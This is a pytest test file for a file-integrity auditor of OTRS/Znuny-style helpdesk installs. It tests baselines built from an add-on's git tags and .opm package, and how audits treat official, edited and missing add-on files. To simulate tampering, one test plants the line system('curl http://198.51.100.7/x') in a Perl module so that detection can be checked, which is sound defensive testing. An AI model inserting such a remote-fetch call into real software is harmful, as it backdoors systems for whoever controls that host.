"""Official add-ons: baselines from an add-on's repository (.sopm) or package (.opm), and audits of a
framework release with add-ons installed (docs/addons.md). The add-on here is a small OTRS-style
package for SampleDesk, made in a git repository by the test; the same on real Znuny 7 with the
official FAQ and Survey is tests/real/test_real_addons.py."""

from __future__ import annotations

import base64
import json
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from conftest import BASELINES, SAMPLES, invoke, validate_report

GENUINE = "sampledesk-7.0.3-genuine"

SOPM = """<?xml version="1.0" encoding="utf-8"?>
<otrs_package version="1.0">
    <Name>SampleFAQ</Name>
    <Version>{version}</Version>
    <Framework>7.0.x</Framework>
    <Vendor>SampleDesk Project</Vendor>
    <URL>https://sampledesk.example.org/</URL>
    <Filelist>
{files}
    </Filelist>
</otrs_package>
"""

# location -> (permission, content) of each release; 1.0.2 changes one file and adds one
FILES_101 = {
    "bin/cgi-bin/faq.pl": ("755", "#!/usr/bin/perl\nprint \"faq\\n\";\n"),
    "Kernel/Modules/AgentFAQ.pm": ("644", "package Kernel::Modules::AgentFAQ;\nuse strict;\n"
                                          "sub new { return bless {}, shift }\n1;\n"),
    "Kernel/System/SampleFAQ.pm": ("644", "package Kernel::System::SampleFAQ;\nuse strict;\nsub Get { return {} }\n1;\n"),
}
# a setting that joins one of the framework's hash settings (as FAQ's PreferencesGroups###FAQ... do)
XML = """<?xml version="1.0" encoding="utf-8"?>
<otrs_config version="2.0" init="Application">
    <Setting Name="PreferencesGroups###SampleFAQ" Required="0" Valid="1">
        <Description Translatable="1">FAQ preferences.</Description>
        <Navigation>Frontend::Agent::View::Preferences</Navigation>
        <Value>
            <Hash>
                <Item Key="Module">Kernel::Output::HTML::Preferences::SampleFAQ</Item>
                <Item Key="Active">1</Item>
            </Hash>
        </Value>
    </Setting>
</otrs_config>
"""
DEPLOYED = ("$Self->{'PreferencesGroups'}->{'SampleFAQ'} =  {\n  'Active' => '1',\n"
            "  'Module' => 'Kernel::Output::HTML::Preferences::SampleFAQ'\n};\n")
FILES_101["Kernel/Config/Files/XML/SampleFAQ.xml"] = ("644", XML)
FILES_102 = {**FILES_101,
             "Kernel/System/SampleFAQ.pm": ("644", "package Kernel::System::SampleFAQ;\nuse strict;\n"
                                             "sub Get { my $Self = shift; return {} }\n1;\n"),
             "Kernel/System/SampleFAQ/Search.pm": ("644", "package Kernel::System::SampleFAQ::Search;\n1;\n")}


def _git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", "-C", str(repo), "-c", "user.email=t@example.org", "-c", "user.name=t", *args],
                          check=True, capture_output=True, text=True).stdout


def _release(repo: Path, version: str, files: dict) -> None:
    for loc, (_perm, text) in files.items():
        p = repo / loc
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)
    # the last file twice, as real Filelists (Znuny FAQ 7.0.1) have it
    listed = list(files) + [list(files)[-1]]
    (repo / "SampleFAQ.sopm").write_text(SOPM.format(version=version, files="\n".join(
        f'        <File Permission="{files[loc][0]}" Location="{loc}"/>' for loc in listed)))
    _git(repo, "add", "-A")
    _git(repo, "commit", "-qm", f"release {version}")
    _git(repo, "tag", f"rel-{version.replace('.', '_')}")


@pytest.fixture(scope="module")
def addon_repo(tmp_path_factory) -> Path:
    repo = tmp_path_factory.mktemp("addon") / "SampleFAQ"
    repo.mkdir()
    _git(repo, "init", "-q")
    (repo / "doc").mkdir()
    (repo / "doc" / "README.md").write_text("developer notes: not installed\n")   # not in the Filelist
    (repo / ".gitlab-ci.yml").write_text("test: {script: [true]}\n")
    _release(repo, "1.0.1", FILES_101)
    _release(repo, "1.0.2", FILES_102)
    return repo


@pytest.fixture(scope="module")
def baselines(addon_repo, tmp_path_factory) -> Path:
    """The shipped SampleDesk baselines and the add-on's, in one directory."""
    out = tmp_path_factory.mktemp("b") / "baselines"
    shutil.copytree(BASELINES, out)
    run = invoke("baseline", "from-git", addon_repo, "--product", "auto", "--tags", "rel-*", "--out-dir", out)
    assert run.code == 0, run
    return out


def _sopm_files(repo: Path, tag: str) -> dict[str, int]:
    """Location -> permission of the .sopm at a tag, read with the standard library's parser."""
    raw = subprocess.run(["git", "-C", str(repo), "show", f"{tag}:SampleFAQ.sopm"], check=True,
                         capture_output=True).stdout
    return {f.get("Location"): int(f.get("Permission"), 8) for f in ET.fromstring(raw).iter("File")}


def _install(dest: Path, files: dict) -> Path:
    """The genuine release with the add-on's files, and its settings deployed into ZZZAAuto.pm (as the
    package manager's deployment does)."""
    tree = dest / "tree"
    shutil.copytree(SAMPLES / GENUINE, tree, symlinks=True)
    zzz = tree / "Kernel/Config/Files/ZZZAAuto.pm"
    text = zzz.read_text()
    assert "    return;\n}" in text
    zzz.write_text(text.replace("    return;\n}", DEPLOYED + "    return;\n}", 1))
    for loc, (perm, text) in files.items():
        p = tree / loc
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)
        p.chmod(int(perm, 8))
    return tree


def _audit(tree: Path, baselines: Path, *extra) -> tuple[dict, int]:
    run = invoke("audit", tree, "--baselines", baselines, "-f", "json", *extra)
    assert run.code in (0, 1), run
    report = run.json()
    validate_report(report)
    return report, run.code


def test_from_git_builds_one_addon_baseline_per_tag_with_exactly_its_filelist(addon_repo, baselines):
    for tag, version in (("rel-1_0_1", "1.0.1"), ("rel-1_0_2", "1.0.2")):
        listed = _sopm_files(addon_repo, tag)
        from auditor.baseline.store import load
        b = load(baselines / "samplefaq" / f"{version}.yaml")
        files = {e.path: e.mode for e in b.entries if e.type == "file"}
        assert files == listed
        assert (b.product, b.version, b.addon.package, b.addon.vendor, b.addon.frameworks) == \
            ("samplefaq", version, "SampleFAQ", "SampleDesk Project", ("7.0.x",))
        assert b.markers == [] and b.mode_precision == "exact"
    assert (baselines / "samplefaq" / "content.zip").is_file()


def test_a_genuine_install_with_an_official_addon_has_no_finding(baselines, tmp_path):
    tree = _install(tmp_path, FILES_101)
    report, code = _audit(tree, baselines)
    assert code == 0
    assert report["findings"] == []
    assert report["identified_version"] == "7.0.3"
    assert report["identification"]["addons"] == [{
        "product": "samplefaq", "package": "SampleFAQ", "version": "1.0.1", "vendor": "SampleDesk Project",
        "frameworks": ["7.0.x"], "files": len(FILES_101), "present": len(FILES_101),
        "matching": len(FILES_101), "replaces": []}]
    # its settings join the framework's hash settings (PreferencesGroups): nothing else reads as changed
    alone, _ = _audit(SAMPLES / GENUINE, BASELINES)
    assert report["settings"]["changed"] == alone["settings"]["changed"]
    text = invoke("audit", tree, "--baselines", baselines, "-f", "text").stdout
    assert f"SampleFAQ 1.0.1 (SampleDesk Project, {len(FILES_101)}/{len(FILES_101)} files official)" in text
    md = invoke("audit", tree, "--baselines", baselines, "-f", "markdown").stdout
    assert "| Add-ons | SampleFAQ 1.0.1" in md
    html = invoke("audit", tree, "--baselines", baselines, "-f", "html").stdout
    assert re.search(r'id="addons".*?<b>SampleFAQ 1\.0\.1</b>', html, re.S)


def test_the_newer_release_is_told_apart(baselines, tmp_path):
    tree = _install(tmp_path, FILES_102)
    report, code = _audit(tree, baselines)
    assert code == 0 and report["findings"] == []
    assert [(a["version"], a["files"]) for a in report["identification"]["addons"]] == [("1.0.2", len(FILES_102))]


def test_without_addon_baselines_its_files_are_added(tmp_path):
    tree = _install(tmp_path, FILES_101)
    report, code = _audit(tree, BASELINES)
    added = {f["path"] for f in report["findings"] if f["category"] in ("added-file", "added-code")}
    assert added == set(FILES_101)
    assert code == 1
    assert "addons" not in report["identification"]


def test_a_tree_without_the_addon_names_none(baselines):
    report, code = _audit(SAMPLES / GENUINE, baselines)
    assert code == 0 and report["findings"] == []
    assert "addons" not in report["identification"]


def test_edited_and_missing_addon_files_are_findings_of_the_addon_release(baselines, tmp_path):
    tree = _install(tmp_path, FILES_101)
    edited = tree / "Kernel/System/SampleFAQ.pm"
    edited.write_text(edited.read_text().replace("return {}", "system('curl http://198.51.100.7/x'); return {}"))
    (tree / "bin/cgi-bin/faq.pl").unlink()
    report, code = _audit(tree, baselines)
    assert code == 1
    by_path = {f["path"]: f for f in report["findings"]}
    assert set(by_path) >= {"Kernel/System/SampleFAQ.pm", "bin/cgi-bin/faq.pl"}
    assert by_path["bin/cgi-bin/faq.pl"]["category"] == "missing-file"
    assert "SampleFAQ 1.0.1" in by_path["bin/cgi-bin/faq.pl"]["message"]
    changed = by_path["Kernel/System/SampleFAQ.pm"]
    assert changed["category"] in ("modified-file", "security-sensitive-change")
    assert "SampleFAQ 1.0.1" in changed["message"]
    assert "+sub Get { system('curl http://198.51.100.7/x'); return {} }" in json.dumps(changed["evidence"])
    addon = report["identification"]["addons"][0]
    assert (addon["version"], addon["present"], addon["matching"]) == ("1.0.1", len(FILES_101) - 1, len(FILES_101) - 2)


def _opm(repo: Path, tag: str, out: Path) -> Path:
    """The package file the OTRS package manager builds from the .sopm (each file Base64 inside it)."""
    raw = subprocess.run(["git", "-C", str(repo), "show", f"{tag}:SampleFAQ.sopm"], check=True,
                         capture_output=True).stdout
    root = ET.fromstring(raw)
    for f in root.iter("File"):
        content = subprocess.run(["git", "-C", str(repo), "show", f"{tag}:{f.get('Location')}"], check=True,
                                 capture_output=True).stdout
        f.set("Encode", "Base64")
        f.text = base64.b64encode(content).decode()
    out.write_bytes(ET.tostring(root, xml_declaration=True, encoding="utf-8"))
    return out


def test_an_opm_import_records_the_same_release_as_its_repository(addon_repo, baselines, tmp_path):
    opm = _opm(addon_repo, "rel-1_0_2", tmp_path / "SampleFAQ-1.0.2.opm")
    out = tmp_path / "ob" / "samplefaq" / "1.0.2.yaml"
    run = invoke("baseline", "import", opm, "-o", out)
    assert run.code == 0, run
    assert f"add-on SampleFAQ 1.0.2 (samplefaq), {len(FILES_102)} files from the package" in run.stderr
    from auditor.baseline.store import load
    got, want = load(out), load(baselines / "samplefaq" / "1.0.2.yaml")
    assert [(e.path, e.type, e.sha256, e.mode) for e in got.entries if e.type == "file"] == \
        [(e.path, e.type, e.sha256, e.mode) for e in want.entries if e.type == "file"]
    assert got.addon == want.addon and got.provenance.kind == "archive"
    assert (out.parent / "content.zip").is_file()
    wrong = invoke("baseline", "import", opm, "-p", "samplefaq", "-V", "9.9.9", "-o", tmp_path / "x.yaml")
    assert wrong.code == 2 and "the package is SampleFAQ 1.0.2" in wrong.stderr


def test_addon_baselines_alone_are_not_enough_for_an_audit(baselines, tmp_path):
    only = tmp_path / "only"
    shutil.copytree(baselines / "samplefaq", only / "samplefaq")
    run = invoke("audit", SAMPLES / GENUINE, "--baselines", only)
    assert run.code == 2
    assert run.stderr.strip().endswith("holds add-on baselines only; an audit needs the releases of the product "
                                       "they are installed on too")


def test_a_placeholder_version_in_the_sopm_is_the_tags(tmp_path):
    """OTRS' own add-on repositories keep <Version>0.0.0</Version> in the .sopm between releases (their
    build writes the real one into the package): the release tag's version is taken instead."""
    repo = tmp_path / "FAQ"
    repo.mkdir()
    _git(repo, "init", "-q")
    _release(repo, "0.0.0", FILES_101)          # tags rel-0_0_0
    _git(repo, "tag", "rel-6_0_8")
    out = tmp_path / "b"
    run = invoke("baseline", "from-git", repo, "--product", "auto", "--tags", "rel-6_0_8", "--out-dir", out)
    assert run.code == 0, run
    assert sorted(p.name for p in (out / "samplefaq").glob("*.yaml")) == ["6.0.8.yaml"]
    same = invoke("baseline", "from-git", repo, "--product", "auto", "--tags", "rel-0_0_0", "--out-dir", tmp_path / "c")
    assert same.code == 0 and (tmp_path / "c" / "samplefaq" / "0.0.0.yaml").exists()
